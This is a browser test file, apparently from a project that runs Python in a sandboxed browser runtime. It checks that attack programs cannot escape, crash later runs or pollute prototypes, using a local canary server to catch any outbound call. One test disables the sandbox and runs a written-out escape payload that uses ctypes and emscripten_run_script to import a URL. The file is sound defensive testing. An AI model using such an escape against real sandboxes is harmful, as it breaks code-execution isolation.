import { afterAll, expect, test } from 'vitest'
import { commands } from 'vitest/browser'
import { createPython } from '../../src/python/python.ts'
import { noCage } from '../../tools/pages/noCage.ts'
import { attacks, oddTexts } from './programs.ts'

/** Whatever a program tries: it settles, nothing gets out, and the next cell runs. */
const port = await commands.canaryPort()
const python = createPython({ baseUrl: `${location.origin}/` })
afterAll(() => python.dispose())

const patient = new AbortController().signal
const run = (code: string, timeoutMs = 1000) =>
  python.run({ code, state: 'fresh', solution: 'attacked', timeoutMs }, patient)

test.each([...attacks, ...oddTexts].map(({ tries, code }, n) => [tries, code, n] as const))(
  '%s',
  async (_, code, n) => {
    const secret = `secret-${n}-`
    const text = code
      .replaceAll('CANARY', `http://127.0.0.1:${port}/${secret}`)
      .replaceAll('PORT', String(port))
    const output = await run(text)
    expect(output.stdout.length).toBeLessThanOrEqual(1_000_000)
    // What it left for later has its chance.
    if (/later/.test(text)) await new Promise((resolve) => setTimeout(resolve, 300))
    const next = await run('from sympy import Rational\nprint(6 * 7, Rational(1, 2))', 5000)
    expect([next.stdout, next.error]).toEqual(['42 1/2\n', undefined])
    expect(await commands.canaryHeard(secret)).toEqual([])
    expect(Reflect.get(Object.prototype, 'polluted')).toBeUndefined()
  },
)

test('in all of it, the canary heard nothing at all', async () => {
  expect(await commands.canaryHeard('secret')).toEqual([])
})

/** A hole, planted: what is heard from it shows that the canary would tell. */
test('without the cage, a program gets out and the canary hears it', async () => {
  const open = createPython({ baseUrl: `${location.origin}/`, cage: noCage })
  const code = `import ctypes, time
ctypes.CDLL(None).emscripten_run_script(b"import('http://127.0.0.1:${port}/hole')")
time.sleep(0.5)`
  await open.run({ code, state: 'fresh', solution: 'open', timeoutMs: 3000 }, patient)
  open.dispose()
  await expect.poll(() => commands.canaryHeard('hole')).not.toEqual([])
})
